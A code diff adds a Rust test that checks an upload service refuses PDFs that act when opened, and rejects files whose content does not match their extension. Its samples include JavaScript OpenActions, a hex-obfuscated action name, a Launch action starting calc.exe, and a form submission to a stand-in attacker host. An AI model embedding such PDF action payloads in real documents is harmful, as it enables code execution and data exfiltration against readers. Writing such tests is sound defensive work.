@@ -10,7 +10,7 @@ use zip::write::SimpleFileOptions;
 
 use super::persons::{Persons, to_files};
 use crate::house::config;
-use crate::house::files::{DOCUMENT, content_types, docx, docx_of, zipped};
+use crate::house::files::{DOCUMENT, content_types, docx, docx_of, pdf_with, zipped};
 
 /// A .docx with one more part, of bytes.
 fn with(name: &str, content: &[u8]) -> Vec<u8> {
@@ -60,6 +60,38 @@ async fn what_is_made_to_harm_is_refused_and_the_next_one_is_answered() {
     let kept: i64 = sqlx::query_scalar(kept).fetch_one(&persons.house.owner_pool).await.unwrap();
     assert_eq!(kept, 0, "nor is anything kept of what stands in them");
     persons.russia.upload(&to_files(letter), "a.docx", &docx("A text")).await.goes_to();
+}
+
+/// A PDF that runs, fetches or sends something is refused; one that shows a place when it is opened is not.
+#[tokio::test]
+async fn a_pdf_that_acts_by_itself_is_refused() {
+    let persons = Persons::new().await;
+    let letter = persons.letter().await;
+    let pdf = |catalogue: &str, more: &str| {
+        let catalogue = format!("/Type/Catalog/Pages 2 0 R{catalogue}");
+        let objects =
+            [(catalogue.as_str(), ""), ("/Kids[3 0 R]/Count 1", ""), ("/Type/Page", ""), (more, "")];
+        pdf_with(&objects, more)
+    };
+    for (what, content) in [
+        ("a script", pdf("/OpenAction<</S/JavaScript/JS(app.alert(1))>>", "")),
+        ("a script elsewhere", pdf("/OpenAction 4 0 R", "/Type/Action/S/JavaScript/JS(app.alert(1))")),
+        ("a name with signs", pdf("/OpenAction<</S/Java#53cript/JS(app.alert(1))>>", "")),
+        ("a program", pdf("/AA<</WC<</S/Launch/F(calc.exe)>>>>", "")),
+        ("a form", pdf("", "/Subtype/Widget/A<</S/SubmitForm/F(http://evil.example)>>")),
+    ] {
+        let answer = persons.russia.upload(&to_files(letter), "a.pdf", &content).await;
+        assert_eq!(answer.status, StatusCode::UNPROCESSABLE_ENTITY, "{what}");
+        assert!(answer.says("does something when it is opened"), "{what}: {}", answer.body);
+    }
+    let shows = pdf("/OpenAction[3 0 R/Fit]", "/S/GoTo/D[3 0 R/Fit]");
+    persons.russia.upload(&to_files(letter), "a.pdf", &shows).await.goes_to();
+    // A file that calls itself another kind than it is.
+    for (name, content) in [("a.docx", pdf("", "")), ("a.pdf", docx("A text"))] {
+        let answer = persons.russia.upload(&to_files(letter), name, &content).await;
+        assert_eq!(answer.status, StatusCode::UNPROCESSABLE_ENTITY, "{name}");
+        assert!(answer.says("it is not what it says"), "{name}: {}", answer.body);
+    }
 }
 
 #[tokio::test]
